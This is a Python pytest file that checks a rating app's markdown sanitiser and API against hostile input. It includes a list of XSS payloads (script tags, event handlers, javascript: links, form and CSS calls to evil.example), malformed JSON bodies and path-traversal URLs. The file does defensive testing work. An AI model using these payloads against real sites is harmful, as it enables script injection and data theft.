"""Texts of strangers stay texts: hostile prompts and answers, odd characters, input that fits nothing."""

import json
import re
from html.parser import HTMLParser

import pytest
from helpers.studio import Studio, pairs

from keel.store.rows import NewItem
from keel.studio.markdown import ATTRIBUTES, ELEMENTS, safe_html
from keel.studio.settings import StudioSettings

PAYLOADS = [
    "<script>alert(1)</script>",
    "<ScRiPt src=//evil.example/x.js></sCrIpT>",
    "<img src=x onerror=alert(1)>",
    "<svg/onload=alert(1)>",
    "<svg><script>alert(1)</script></svg>",
    "<math><mtext><table><mglyph><style><img src=x onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<body onload=alert(1)>",
    "<a href='javascript:alert(1)'>x</a>",
    "[x](javascript:alert(1))",
    "[x](JaVaScRiPt:alert(1))",
    "[x](javascript&#58;alert(1))",
    "[x](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)",
    "[x](vbscript:msgbox(1))",
    "[x](<javascript:alert(1)>)",
    '[x](https://ok.example "onmouseover=alert(1)")',
    '[x](https://ok.example\'"onmouseover="alert(1))',
    "![x](https://evil.example/track.png)",
    '![x" onerror="alert(1)](https://evil.example/x)',
    "![a](javascript:alert(1))",
    "<https://ok.example/\"onclick='alert(1)'>",
    "<javascript:alert(1)>",
    "```html\n<script>alert(1)</script>\n```",
    '```"><script>alert(1)</script>\nx\n```',
    "`<script>alert(1)</script>`",
    "<!--><script>alert(1)</script>-->",
    "<![CDATA[<script>alert(1)</script>]]>",
    "<style>*{background:url(//evil.example)}</style>",
    "<link rel=stylesheet href=//evil.example/x.css>",
    "<form action=//evil.example><input name=password></form>",
    "<meta http-equiv=refresh content='0;url=//evil.example'>",
    "<base href=//evil.example/>",
    "<object data=//evil.example></object><embed src=//evil.example>",
    "<div style='position:fixed;inset:0'>cover</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'>",
    "</textarea></title><script>alert(1)</script>",
    "{{7*7}} {% raw %} ${7*7} #{7*7}",
    "&lt;script&gt;alert(1)&lt;/script&gt;",
    "[a]: javascript:alert(1)\n\n[a]",
    "| <img src=x onerror=alert(1)> |\n|---|\n| x |",
    "\u202e<script>\u202c alert \u0000".replace("\u0000", ""),
    "<scr\u200bipt>alert(1)</scr\u200bipt>",
]


class Elements(HTMLParser):
    """Which elements and attributes a browser would make of it."""

    def __init__(self, html):
        super().__init__()
        self.found = []
        self.text = ""
        self.feed(html)

    def handle_starttag(self, tag, attrs):
        self.found.append((tag, dict(attrs)))

    def handle_data(self, data):
        self.text += data


@pytest.mark.parametrize("payload", PAYLOADS)
def test_a_hostile_text_makes_no_element_but_those_of_plain_markdown(payload):
    for tag, attributes in Elements(safe_html(payload)).found:
        assert tag in ELEMENTS
        assert set(attributes) <= ATTRIBUTES.get(tag, set()) | {"rel", "target"}
        assert not re.match(r"\s*(javascript|data|vbscript):", attributes.get("href") or "", re.IGNORECASE)
        if tag == "a" and attributes.get("href"):
            assert attributes["rel"] == "noopener noreferrer nofollow"


@pytest.mark.parametrize("payload", ["<script>alert(1)</script>", "<img src=x onerror=alert(1)>", "a < b && c > d"])
def test_html_in_a_text_is_shown_as_it_was_written(payload):
    assert payload in Elements(safe_html(payload)).text


def test_ordinary_markdown_is_rendered():
    html = safe_html(
        "# Title\n\n- **bold** and `code`\n\n| a | b |\n|---|---|\n| 1 | 2 |\n\n~~gone~~ [x](https://ok.example)"
    )
    for part in ("<h1>Title</h1>", "<li>", "<strong>bold</strong>", "<code>code</code>", "<td>1</td>", "<s>gone</s>"):
        assert part in html
    assert 'href="https://ok.example"' in html


def test_a_picture_is_shown_by_its_description_and_never_fetched():
    html = safe_html("![a cat](https://evil.example/cat.png)")
    assert "a cat" in html
    assert "evil.example" not in html


@pytest.fixture(scope="module")
def studio(tmp_path_factory):
    studio = Studio(tmp_path_factory.mktemp("texts") / "studio.sqlite", golden_share=0, repeat_share=0)
    studio.add_items([NewItem(prompt=p, a=p + " a", b=p + " b") for p in PAYLOADS])
    return studio


def test_hostile_items_reach_the_rater_as_harmless_html_and_their_exact_text(studio):
    rater, seen = studio.person("rater"), set()
    while task := rater.ask("POST", "/projects/p/next", {})["task"]:
        html = task["prompt_html"] + task["left_html"] + task["right_html"]
        assert {tag for tag, _ in Elements(html).found} <= ELEMENTS
        seen.add(task["prompt_text"])
        key = f"hostile-{task['lease']}"
        rater.ask("POST", "/projects/p/judgments", {"lease": task["lease"], "choice": "skip", "client_key": key})
    assert seen == set(PAYLOADS)


def test_answers_are_json_that_no_browser_takes_for_a_page(studio):
    reply = studio.person("lead").http.get("/api/v1/projects/p/items")
    assert reply.headers["content-type"] == "application/json"
    assert reply.headers["x-content-type-options"] == "nosniff"
    policy = reply.headers["content-security-policy"]
    assert "default-src 'self'" in policy
    assert "unsafe-inline" not in policy
    assert "frame-ancestors 'none'" in policy
    assert reply.headers["cache-control"] == "no-store"


BAD_BODIES = [
    b"",
    b"{",
    b"[]",
    b"null",
    b"\xff\xfe",
    b'{"lease": 1e999}',
    b'{"lease": NaN, "choice": "left", "client_key": "12345678"}',
    b'{"lease": 99999999999999999999999, "choice": "left", "client_key": "12345678"}',
    b'{"lease": 1, "choice": "left", "client_key": "12345678", "rationale": "\\u0000"}',
    b'{"lease": 1, "choice": "left", "client_key": "12345678", "rationale": "\\ud800"}',
    b'{"lease": 1, "choice": "left", "client_key": "12345678", "seconds": -1}',
    b'{"lease": 1, "choice": "left", "client_key": "12345678", "extra": 1}',
    b'{"lease": true, "choice": ["left"], "client_key": {}}',
    b"[" * 100_000,
    b'{"a":' * 50_000,
]


@pytest.mark.parametrize("body", BAD_BODIES, ids=lambda body: repr(body[:30]))
def test_a_body_that_fits_nothing_is_refused_in_words(studio, body):
    for method, path in (
        ("POST", "/projects/p/judgments"),
        ("POST", "/projects/p/members"),
        ("PATCH", "/projects/p"),
        ("POST", "/projects/p/items"),
        ("POST", "/login"),
    ):
        reply = studio.person("lead").http.request(
            method, f"/api/v1{path}", content=body, headers={"content-type": "application/json"}
        )
        assert reply.status_code < 500, f"{method} {path}: {reply.text}"
        if reply.status_code >= 400:
            assert reply.json()["error"]["message"]


@pytest.mark.parametrize(
    "path",
    [
        "/projects/%00",
        "/projects/p%2F..",
        "/projects/" + "x" * 5000,
        "/projects/p/items?page=0",
        "/projects/p/items?page=99999999999999999999",
        "/projects/p/items?size=100000",
        "/projects/p/items?text=%00",
        "/projects/p/items?text=%25%5F",
        "/projects/p/items?text=%F0%9F%92%A9",
        "/projects/p/items?state=nonsense",
        "/projects/p/guide?version=0",
        "/projects/p/guide?version=123456789012345678901234567890",
        "/projects/p/raters/%E2%80%AE",
        "/projects/p/snapshots/..%2F..%2Fetc/download",
        "/projects/p/export?kind=all",
        "/audit?before=-1",
        "/nowhere",
    ],
)
def test_an_address_that_leads_nowhere_is_told_so(studio, path):
    reply = studio.person("lead").http.get(f"/api/v1{path}")
    assert reply.status_code < 500, reply.text
    if reply.status_code >= 400:
        assert reply.json()["error"]["message"]


def test_a_request_that_is_too_large_is_refused_before_it_is_read(tmp_path):
    studio = Studio(tmp_path / "studio.sqlite", StudioSettings(max_body=1000, max_import=5000))
    lead = studio.person("lead")
    assert "larger than" in lead.ask("POST", "/projects/p/guide", {"text": "x" * 2000}, status=413)["error"]["message"]
    lines = b"".join(json.dumps({"prompt": "p", "a": str(n), "b": "b"}).encode() + b"\n" for n in range(1000))
    reply = lead.http.post("/api/v1/projects/p/items", content=lines, headers={"content-type": "application/x-ndjson"})
    assert reply.status_code == 413
    assert lead.ask("GET", "/projects/p/items")["total"] == 0


def test_names_with_invisible_characters_are_refused(studio):
    admin = studio.person("admin")
    for name in ("an\u200bn", "a\u202enn", "\u0007", "a\u0000b", " "):
        assert admin.status("POST", "/users", {"name": name, "password": "a long and lasting phrase"}) == 422
    admin.ask("POST", "/users", {"name": "Žofie Ångström", "password": "a long and lasting phrase"})
    assert admin.status("POST", "/users", {"name": "ŽOFIE ÅNGSTRÖM"}) == 409


def test_items_in_every_script_come_back_as_they_were(tmp_path):
    studio = Studio(tmp_path / "studio.sqlite")
    odd = [
        "ﬀ ligature",
        "e\u0301 combining",
        "👩‍👩‍👧‍👦 family",
        "שלום עולם",
        "\u2028 line",
        "tab\tand\r\nbreak",
        "a" * 50_000,
    ]
    studio.add_items(pairs(1))
    body = [{"prompt": text, "a": text + "1", "b": text + "2"} for text in odd]
    assert studio.person("lead").ask("POST", "/projects/p/items", body)["added"] == len(odd)
    items = studio.person("lead").ask("GET", "/projects/p/items")["items"]
    assert [item["prompt"] for item in items[1:]] == odd


@pytest.mark.parametrize("usd", ["1e309", "1e300"])
def test_a_price_that_is_no_price_is_refused(studio, usd):
    body = f'{{"settings": {{"usd_per_judgment": {usd}}}}}'
    reply = studio.person("lead").http.patch(
        "/api/v1/projects/p", content=body, headers={"content-type": "application/json"}
    )
    assert (reply.status_code, reply.json()["error"]["field"]) == (422, "settings.usd_per_judgment")


def test_an_upload_may_have_a_long_name_in_any_script(studio):
    name = "é" * 190 + ".jsonl"
    body = b'{"prompt": "p", "a": "x", "b": "y"}'
    assert studio.person("lead").http.post("/api/v1/projects/p/items", params={"file": name}, content=body).is_success
